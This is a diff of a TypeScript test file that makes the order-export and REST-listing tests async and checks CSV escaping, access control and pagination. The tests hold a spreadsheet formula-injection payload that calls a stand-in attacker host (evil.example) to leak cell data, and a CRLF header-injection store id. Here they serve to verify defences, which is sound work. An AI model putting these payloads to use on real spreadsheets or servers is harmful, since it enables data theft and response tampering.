@@ -1,4 +1,5 @@
 import { describe, expect, it } from "vitest";
+import type { OrderView } from "@/server/services/order-views";
 import { SYSTEM_ACTOR } from "@/server/services/actor";
 import { cancelOrder } from "@/server/services/close-order";
 import { createOrder } from "@/server/services/create-order";
@@ -8,19 +9,18 @@ import { makeEmployee, makeToken, signInAs } from "@/test-support/people";
 import { rest } from "@/test-support/rest";
 import { GET as exportRoute } from "./route";
 
-const storeId = makeStore();
+const storeId = await makeStore();
 const at = (minute: number) => new Date(Date.UTC(2026, 10, 1, 12, minute)).toISOString();
-const made = Array.from({ length: 1203 }, (_, i) =>
-  createOrder(
-    orderInput(storeId, {
-      placed_at: at(i % 120),
-      platform: i % 3 === 0 ? "grubhub" : "doordash",
-      customer: { first_name: i === 7 ? 'Ann "Quote", Jr' : "Jane", last_name: "Doe" },
-    }),
-    SYSTEM_ACTOR,
-  ).order,
-);
-cancelOrder({ orderId: made[6]!.id, reason: { code: "STORE_CLOSED", message: "" }, actor: SYSTEM_ACTOR });
+const made: OrderView[] = [];
+for (let i = 0; i < 1203; i++) {
+  const input = orderInput(storeId, {
+    placed_at: at(i % 120),
+    platform: i % 3 === 0 ? "grubhub" : "doordash",
+    customer: { first_name: i === 7 ? 'Ann "Quote", Jr' : "Jane", last_name: "Doe" },
+  });
+  made.push((await createOrder(input, SYSTEM_ACTOR)).order);
+}
+await cancelOrder({ orderId: made[6]!.id, reason: { code: "STORE_CLOSED", message: "" }, actor: SYSTEM_ACTOR });
 
 /** Reads RFC 4180 CSV back, so the test checks what a spreadsheet would see. */
 function parseCsv(text: string): string[][] {
@@ -52,7 +52,7 @@ function parseCsv(text: string): string[][] {
 
 describe("CSV export", () => {
   it("streams exactly the filtered list, in its order, with fields escaped", async () => {
-    const manager = signInAs((await makeEmployee("manager", [storeId])).id).token;
+    const manager = (await signInAs((await makeEmployee("manager", [storeId])).id)).token;
     const query = `store_id=${storeId}&platform=doordash&sort=placed&dir=desc`;
     const response = await exportRoute(new Request(`http://x/api/orders/export?${query}`, { headers: { cookie: `ob_session=${manager}` } }));
     expect(response.status).toBe(200);
@@ -63,7 +63,7 @@ describe("CSV export", () => {
     const expected: number[] = [];
     let cursor: string | undefined;
     do {
-      const page = listOrders(ZListOrders.parse({ store_id: storeId, platform: ["doordash"], limit: 100, cursor }), null);
+      const page = await listOrders(ZListOrders.parse({ store_id: storeId, platform: ["doordash"], limit: 100, cursor }), null);
       expected.push(...page.orders.map((o) => o.id));
       cursor = page.nextCursor ?? undefined;
     } while (cursor);
@@ -73,13 +73,13 @@ describe("CSV export", () => {
   });
 
   it("writes no cell a spreadsheet would run, whatever an integrator put in the order", async () => {
-    const attacked = makeStore();
+    const attacked = await makeStore();
     const post = await rest("POST", "/api/v1/orders", {
-      token: makeToken(["orders:write"], attacked),
+      token: await makeToken(["orders:write"], attacked),
       body: { ...orderInput(attacked), external_id: "@SUM(1+1)", customer: { first_name: '=HYPERLINK("http://evil.example/?"&A1,"Refund")', last_name: "" } },
     });
     expect(post.status).toBe(201);
-    const manager = signInAs((await makeEmployee("manager", [attacked])).id).token;
+    const manager = (await signInAs((await makeEmployee("manager", [attacked])).id)).token;
     const response = await exportRoute(new Request(`http://x/api/orders/export?store_id=${attacked}`, { headers: { cookie: `ob_session=${manager}` } }));
     const [header, row] = parseCsv(await response.text());
     expect(row![header!.indexOf("customer")]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Refund")`);
@@ -88,7 +88,7 @@ describe("CSV export", () => {
   });
 
   it("looks the store up before naming the file: an unknown or forged store id is a 404, never a broken header", async () => {
-    const admin = signInAs((await makeEmployee("admin", [])).id).token;
+    const admin = (await signInAs((await makeEmployee("admin", [])).id)).token;
     const response = await exportRoute(new Request(`http://x/api/orders/export?store_id=${encodeURIComponent("mission\r\nSet-Cookie: x=1")}`, { headers: { cookie: `ob_session=${admin}` } }));
     expect(response.status).toBe(404);
     expect((await response.json()).error.code).toBe("STORE_NOT_FOUND");
@@ -97,15 +97,15 @@ describe("CSV export", () => {
   });
 
   it("is for managers of the store and admins only", async () => {
-    const staff = signInAs((await makeEmployee("staff", [storeId])).id).token;
+    const staff = (await signInAs((await makeEmployee("staff", [storeId])).id)).token;
     const request = (cookie?: string) => exportRoute(new Request(`http://x/api/orders/export?store_id=${storeId}`, { headers: cookie ? { cookie } : {} }));
     expect((await request()).status).toBe(401);
     expect((await request(`ob_session=${staff}`)).status).toBe(403);
   });
 });
 
-describe("REST order lists", () => {
-  const token = makeToken(["orders:read"], storeId);
+describe("REST order lists", async () => {
+  const token = await makeToken(["orders:read"], storeId);
   const get = (url: string) => rest("GET", url, { token });
 
   it("page through GET /api/v1/orders with filters, limited to the token's store", async () => {
@@ -115,7 +115,7 @@ describe("REST order lists", () => {
     expect(second.orders).toHaveLength(101);
     expect(second.next_cursor).toBeNull();
     expect(new Set([...first.orders, ...second.orders].map((o: { platform: string }) => o.platform))).toEqual(new Set(["grubhub"]));
-    expect((await get(`/api/v1/orders?store_id=${makeStore()}`)).status).toBe(403);
+    expect((await get(`/api/v1/orders?store_id=${await makeStore()}`)).status).toBe(403);
     expect((await get(`/api/v1/orders?status=lost`)).status).toBe(400);
   });
 
